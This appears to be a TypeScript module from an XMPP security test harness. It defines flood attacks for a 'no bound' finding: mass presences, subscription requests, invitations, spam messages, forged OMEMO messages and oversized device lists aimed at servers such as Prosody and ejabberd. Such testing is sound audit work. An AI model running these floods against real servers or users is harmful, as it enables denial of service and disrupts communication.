/** Attack class "no bound" (finding 7): state that strangers can make grow. */
import { CROWD } from "../../peers/servers/crowd.ts";
import type { Attack } from "../attack.ts";
import { id, publishes, times, toRoom, toVictim } from "./xml.ts";

const MUC_USER = "http://jabber.org/protocol/muc#user";
const AXOLOTL = "eu.siacs.conversations.axolotl";
const random = (size: number): string => Buffer.from(crypto.getRandomValues(new Uint8Array(size))).toString("base64");

const encrypted = (rid: number, size: number, prekey: boolean): string =>
  `<encrypted xmlns="${AXOLOTL}"><header sid="${1 + (rid % 5)}">${times(
    10,
    (at) => `<key rid="${at}"${prekey ? ' prekey="true"' : ""}>${random(size)}</key>`,
  )}<iv>${random(12)}</iv></header><payload>${random(64)}</payload></encrypted>`;

export const floods: Attack[] = [
  {
    // With thousands of requests, Prosody rewrites the roster file each time, which takes minutes.
    name: "500 subscription requests of a stranger's domain",
    where: "component",
    send: ({ component, victim }) => {
      for (let count = 0; count < 500; count++) {
        component(`<presence from="stranger${count}@${CROWD}" to="${victim.jid}" type="subscribe"/>`);
      }
    },
  },
  {
    // ejabberd ends a session with 5,000 stanzas that are not acknowledged (max_ack_queue of mod_stream_mgmt).
    name: "5,000 presences of bare addresses",
    where: "component",
    endsStream: ["ejabberd"],
    send: ({ component, victim }) => {
      for (let count = 0; count < 5_000; count++) {
        component(
          `<presence from="bare${count}@${CROWD}" to="${victim.full}"><status>${"x".repeat(100)}</status></presence>`,
        );
      }
    },
  },
  {
    name: "5,000 presences of full addresses of one stranger",
    where: "component",
    endsStream: ["ejabberd"],
    send: ({ component, victim }) => {
      for (let count = 0; count < 5_000; count++) {
        component(`<presence from="one@${CROWD}/${count}" to="${victim.full}"/>`);
      }
    },
  },
  {
    name: "2,000 invitations to rooms, direct ones and others",
    where: "component",
    send: ({ component, victim }) => {
      for (let count = 0; count < 1_000; count++) {
        const mediated = `<x xmlns="${MUC_USER}"><invite from="x@${CROWD}"><reason>come</reason></invite></x>`;
        const direct = `<x xmlns="jabber:x:conference" jid="other${count}@${CROWD}" reason="come"/>`;
        component(`<message from="room${count}@${CROWD}" to="${victim.jid}">${mediated}</message>`);
        component(`<message from="host${count}@${CROWD}/x" to="${victim.jid}">${direct}</message>`);
      }
    },
  },
  {
    name: "1,000 messages of as many strangers",
    where: "component",
    send: ({ component, victim }) => {
      for (let count = 0; count < 1_000; count++) {
        const addresses = `from="writer${count}@${CROWD}/x" to="${victim.jid}"`;
        component(`<message ${addresses} type="chat" id="${id()}"><body>buy ${count}</body></message>`);
      }
    },
  },
  {
    name: "800 messages of one contact",
    where: "offline store",
    send: (scene) => {
      for (let count = 0; count < 800; count++) toVictim(scene, `<body>flood ${count}</body>`);
    },
  },
  {
    name: "600 messages",
    where: "room message",
    send: (scene) => {
      for (let count = 0; count < 600; count++) toRoom(scene, `<body>flood ${count}</body>`);
    },
  },
  {
    name: "3,000 presences of a contact's resources that are made up",
    where: "component",
    send: ({ component, victim }) => {
      for (let count = 0; count < 3_000; count++) {
        const client = `hash="sha-1" node="https://evil.example/${count}" ver="${random(20)}"`;
        const picture = `<x xmlns="vcard-temp:x:update"><photo>${random(20)}</photo></x>`;
        const content = `<c xmlns="http://jabber.org/protocol/caps" ${client}/>${picture}`;
        component(`<presence from="caps${count}@${CROWD}/x" to="${victim.full}">${content}</presence>`);
      }
    },
  },
  {
    name: "1,000 forged OMEMO messages",
    where: "direct message",
    send: (scene) => {
      for (let count = 0; count < 1_000; count++) toVictim(scene, encrypted(count, 180, count % 2 === 0));
    },
  },
  {
    name: "forged OMEMO messages",
    where: "room message",
    send: (scene) => {
      for (let count = 0; count < 300; count++) toRoom(scene, encrypted(count, 180, count % 2 === 0));
    },
  },
  {
    name: "an OMEMO message with 2,000 keys",
    where: "direct message",
    send: (scene) =>
      toVictim(
        scene,
        `<encrypted xmlns="${AXOLOTL}"><header sid="1">${times(
          2_000,
          (at) => `<key rid="${at}" prekey="true">${random(40)}</key>`,
        )}<iv>${random(12)}</iv></header></encrypted>`,
      ),
  },
  {
    name: "a list of 5,000 OMEMO devices",
    where: "PEP",
    send: (scene) =>
      publishes(
        scene,
        `${AXOLOTL}.devicelist`,
        `<list xmlns="${AXOLOTL}">${times(5_000, (at) => `<device id="${1_000_000_000 + at}"/>`)}</list>`,
      ),
  },
  {
    name: "a device list that is published 300 times",
    where: "PEP",
    send: (scene) => {
      for (let count = 0; count < 300; count++) {
        publishes(
          scene,
          `${AXOLOTL}.devicelist`,
          `<list xmlns="${AXOLOTL}">${times(20, (at) => `<device id="${1 + count * 20 + at}"/>`)}</list>`,
        );
      }
    },
  },
  {
    name: "a picture's metadata that is published 300 times",
    where: "PEP",
    send: (scene) => {
      for (let count = 0; count < 300; count++) {
        publishes(
          scene,
          "urn:xmpp:avatar:metadata",
          `<metadata xmlns="urn:xmpp:avatar:metadata"><info bytes="99999999999" id="${count}"/></metadata>`,
          String(count),
        );
      }
    },
  },
  {
    name: "2,000 presences that change",
    where: "presence",
    send: ({ write, victim }) => {
      for (let count = 0; count < 2_000; count++) {
        write(
          `<presence to="${victim.full}"><status>${count}</status><show>${
            count % 2 === 0 ? "away" : "dnd"
          }</show></presence>`,
        );
      }
    },
  },
];
